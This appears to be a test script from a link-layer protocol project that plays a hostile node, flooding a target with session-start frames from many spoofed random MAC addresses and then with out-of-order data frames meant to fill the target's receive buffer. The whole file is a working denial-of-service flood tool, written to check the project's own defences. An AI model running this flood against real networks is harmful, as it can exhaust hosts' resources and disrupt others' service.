#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""A hostile node flooding a target's link layer (issue 13 finding 2):

    flood.py IFNAME TARGET_MAC STRANGERS OOO_PEERS SECONDS

1. BGNs from STRANGERS random unicast MACs (locally administered), as fast
   as the socket takes them;
2. from the first OOO_PEERS of them, after their BGN, 63 out-of-order SDs
   of 1,480 octets each (N(S) 1..63, never 0, so none can be delivered and
   every one would wait in the target's receive buffer);
then waits SECONDS.  Prints "sent N".  (BGNs from group
source MACs are tested over a plain veth pair, tests/link/netns.sh: a Linux
bridge drops such frames itself.)
"""
import os
import random
import socket
import struct
import sys
import time

ETH_P = 0x88B5
BGN, SD = 0x1, 0x8


def word(first, value):
    return struct.pack(">I", (first << 24) | (value & 0xFFFFFF))


def main():
    ifname, target, strangers, ooo_peers, seconds = sys.argv[1:6]
    strangers, ooo_peers, seconds = int(strangers), int(ooo_peers), float(seconds)
    dst = bytes.fromhex(target.replace(":", ""))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P))
    s.bind((ifname, ETH_P))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    rnd = random.Random(int.from_bytes(os.urandom(8), "big"))

    def frame(src, pdu):
        f = dst + src + struct.pack(">HH", ETH_P, len(pdu)) + pdu
        return f + b"\0" * max(0, 60 - len(f))

    def send(f):
        while True:
            try:
                s.send(f)
                return
            except BlockingIOError:
                time.sleep(0.001)
            except OSError as e:
                if e.errno == 105:  # ENOBUFS: the qdisc is full, wait
                    time.sleep(0.001)
                    continue
                raise

    macs = []
    for _ in range(strangers):
        m = bytes([(rnd.randrange(256) & 0xFC) | 0x02]) + rnd.randbytes(5)
        macs.append(m)
    sent = 0
    # in bursts the target can read: a flood its socket drops proves nothing
    for i, m in enumerate(macs):
        send(frame(m, word(0, rnd.randrange(256)) + word(BGN, 64)))
        sent += 1
        if i % 100 == 99:
            time.sleep(0.01)
    time.sleep(0.5)  # the BGAKs: the strangers are in Ready now
    info = bytes(1480)
    for m in macs[:ooo_peers]:
        for ns in range(1, 64):
            send(frame(m, info + word(SD, ns)))
            sent += 1
            if sent % 200 == 0:
                time.sleep(0.01)
    print("sent", sent, flush=True)
    time.sleep(seconds)


main()
